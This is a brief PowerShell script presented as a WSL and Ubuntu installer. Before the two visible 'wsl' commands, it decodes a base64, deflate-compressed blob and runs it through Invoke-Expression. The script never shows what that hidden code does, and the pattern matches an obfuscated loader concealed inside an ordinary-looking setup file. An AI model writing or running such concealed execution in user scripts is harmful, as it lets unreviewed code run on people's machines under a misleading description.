# Enables WSL and installs Ubuntu for the user.
$ErrorActionPreference = 'Stop'
$blob = '83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpKLbS1y8o1kutSMwtyEnVy0st0S9V1wQA'
$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String($blob))
$ds = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)
IEX (New-Object IO.StreamReader($ds)).ReadToEnd()
wsl --install -d Ubuntu --no-launch
wsl --list --verbose
